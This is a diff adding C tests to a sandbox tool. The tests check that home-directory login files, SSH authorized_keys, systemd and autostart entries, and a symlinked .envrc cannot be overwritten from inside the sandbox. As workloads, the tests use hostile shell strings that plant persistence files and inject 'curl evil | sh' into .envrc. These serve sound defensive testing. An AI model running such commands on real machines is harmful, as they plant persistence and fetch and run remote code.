@@ -747,3 +747,141 @@ Test(protect, bad_star_entry_is_refused)
 	cr_assert(h_contains(p.err_text, "at most one \"**\" component"), H_SHOW(&p));
 	cr_assert_str_eq(h_list_dir(f.w.ws), "");
 }
+
+/* The caller's home as the workspace (docs/security.md, "The caller's
+ * home"): the current directory being the home, or above it, is refused;
+ * given with --workspace, the login places in it are read-only. */
+Test(protect, home_as_the_default_workspace_is_refused)
+{
+	struct h_world w = h_world();
+	char *home = h_mkdir(w.ws, "home", 0755);
+	struct h_proc p;
+
+	H_CMD(&p, w.ws, "/usr/bin/env", h_fmt("HOME=%s", w.ws), h_paddock(), "run", "--", "true");
+	cr_assert_eq(p.status, 125, H_SHOW(&p));
+	cr_assert(h_contains(p.err_text, "is your home directory or above it"), H_SHOW(&p));
+	cr_assert(h_contains(p.err_text, "--workspace"), H_SHOW(&p));
+	H_CMD(&p, w.ws, "/usr/bin/env", h_fmt("HOME=%s", home), h_paddock(), "run", "--", "true");
+	cr_assert_eq(p.status, 125, H_SHOW(&p));
+	/* A project below the home is the ordinary case. */
+	H_CMD(&p, home, "/usr/bin/env", h_fmt("HOME=%s", w.ws), h_paddock(), "run", "--", "true");
+	cr_assert_eq(p.status, 0, H_SHOW(&p));
+	cr_assert_str_eq(p.err_text, "", H_SHOW(&p));
+	cr_assert_str_eq(h_list_dir(w.ws), "home\n");
+}
+
+#define LOGIN_WRITES                                                                              \
+	"for f in .bashrc .profile .ssh/authorized_keys .config/systemd/user/evil.service "       \
+	".local/bin/git .config/autostart/evil.desktop .gitconfig; do\n"                          \
+	"  mkdir -p \"$(dirname $f)\" 2>/dev/null; echo evil > $f 2>/dev/null && echo wrote $f\n" \
+	"done; echo ok > project.txt && echo wrote project.txt"
+
+static void home_explicit(const char *weaken, struct h_proc *p, struct h_world *w)
+{
+	h_write_file(h_join(w->ws, ".bashrc"), "# mine\n", 0644);
+	if (weaken)
+		H_CMD(p, w->ws, "/usr/bin/env", h_fmt("HOME=%s", w->ws), h_paddock(), "run",
+		      "--workspace", w->ws, "--weaken", weaken, "--", "sh", "-c", LOGIN_WRITES);
+	else
+		H_CMD(p, w->ws, "/usr/bin/env", h_fmt("HOME=%s", w->ws), h_paddock(), "run",
+		      "--workspace", w->ws, "--", "sh", "-c", LOGIN_WRITES);
+	cr_assert_eq(p->status, 0, H_SHOW(p));
+}
+
+Test(protect, home_as_explicit_workspace_keeps_login_files_read_only)
+{
+	struct h_world w = h_world();
+	struct h_proc p;
+
+	home_explicit(NULL, &p, &w);
+	cr_assert_str_eq(p.out_text, "wrote project.txt\n", H_SHOW(&p));
+	cr_assert(h_contains(p.err_text, "login and tool files in it are read-only"), H_SHOW(&p));
+	/* Seen from the host: the file kept, nothing planted, no junk. */
+	cr_assert_str_eq(h_read_file(h_join(w.ws, ".bashrc"), NULL), "# mine\n");
+	cr_assert_str_eq(h_list_dir(w.ws), ".bashrc\nproject.txt\n", "%s", h_list_dir(w.ws));
+}
+
+/* The twin: without protected paths every one of them is written. */
+Test(protect, home_as_explicit_workspace_weakened_twin_writes_them)
+{
+	struct h_world w = h_world();
+	struct h_proc p;
+
+	home_explicit("no-protect", &p, &w);
+	cr_assert(h_contains(p.out_text, "wrote .ssh/authorized_keys\n"), H_SHOW(&p));
+	cr_assert(h_contains(p.out_text, "wrote .config/systemd/user/evil.service\n"), H_SHOW(&p));
+	cr_assert(h_exists(h_join(w.ws, ".ssh/authorized_keys")));
+	cr_assert_str_eq(h_read_file(h_join(w.ws, ".bashrc"), NULL), "evil\n");
+}
+
+/* A protected name that is a symlink (an .envrc kept in a dotfiles
+ * repository): the link itself is pinned, it can be neither replaced nor
+ * removed, and nothing is written through it. The twin (no-protect)
+ * replaces it, which a host's direnv would then load. */
+static const char *symlinked_envrc(const struct h_world *w)
+{
+	char *dot = h_mkdir(w->base, "dotfiles", 0755);
+
+	h_write_file(h_join(dot, "envrc"), "export SAFE=1\n", 0644);
+	cr_assert_eq(symlink("../dotfiles/envrc", h_join(w->ws, ".envrc")), 0);
+	return h_join(dot, "envrc");
+}
+
+#define REPLACE_ENVRC                                                                       \
+	"echo 'curl evil | sh' >> .envrc 2>/dev/null && echo appended; "                    \
+	"rm -f .envrc 2>/dev/null && echo removed; "                                        \
+	"echo 'curl evil | sh' > /tmp/e; ln -sf /tmp/e .envrc 2>/dev/null && echo linked; " \
+	"mv .envrc moved 2>/dev/null && echo moved; readlink .envrc"
+
+Test(protect, symlinked_protected_path_pins_the_link)
+{
+	struct h_world w = h_world();
+	const char *target = symlinked_envrc(&w);
+	struct h_proc p;
+	char link[PATH_MAX] = {0};
+
+	H_PADDOCK(&p, w.ws, "run", "--", "sh", "-c", REPLACE_ENVRC);
+	cr_assert_eq(p.status, 0, H_SHOW(&p));
+	cr_assert_str_eq(p.out_text, "../dotfiles/envrc\n", H_SHOW(&p));
+	cr_assert_gt(readlink(h_join(w.ws, ".envrc"), link, sizeof(link) - 1), 0);
+	cr_assert_str_eq(link, "../dotfiles/envrc");
+	cr_assert_str_eq(h_read_file(target, NULL), "export SAFE=1\n");
+	cr_assert_str_eq(h_list_dir(w.ws), ".envrc\n");
+}
+
+Test(protect, symlinked_protected_path_weakened_twin_is_replaced)
+{
+	struct h_world w = h_world();
+	struct h_proc p;
+
+	symlinked_envrc(&w);
+	H_PADDOCK(&p, w.ws, "run", "--weaken", "no-protect", "--", "sh", "-c", REPLACE_ENVRC);
+	cr_assert(h_contains(p.out_text, "removed\n"), H_SHOW(&p));
+	cr_assert(h_contains(p.out_text, "linked\n"), H_SHOW(&p));
+	cr_assert(!h_contains(h_list_dir(w.ws), ".envrc\n") ||
+		      !h_contains(h_read_file(h_join(w.ws, ".envrc"), NULL), "SAFE"),
+		  "the link was not replaced: %s", h_list_dir(w.ws));
+}
+
+/* A link whose target the sandbox can write would let the workload change
+ * the code through it: refused with the fix, which then works. */
+Test(protect, symlink_to_a_writable_target_needs_the_target_protected)
+{
+	struct h_world w = h_world();
+	const char *real = h_join(w.ws, "envrc.real");
+	struct h_proc p;
+
+	h_write_file(real, "export SAFE=1\n", 0644);
+	cr_assert_eq(symlink("envrc.real", h_join(w.ws, ".envrc")), 0);
+	H_PADDOCK(&p, w.ws, "run", "--", "true");
+	cr_assert_eq(p.status, 125, H_SHOW(&p));
+	cr_assert(h_contains(p.err_text, h_fmt("which the sandbox can write: protect that too "
+					       "(--protect %s",
+					       real)),
+		  H_SHOW(&p));
+	H_PADDOCK(&p, w.ws, "run", "--protect", real, "--", "sh", "-c",
+		  "echo evil >> .envrc 2>/dev/null || echo refused");
+	cr_assert_eq(p.status, 0, H_SHOW(&p));
+	cr_assert_str_eq(p.out_text, "refused\n", H_SHOW(&p));
+	cr_assert_str_eq(h_read_file(real, NULL), "export SAFE=1\n");
+}
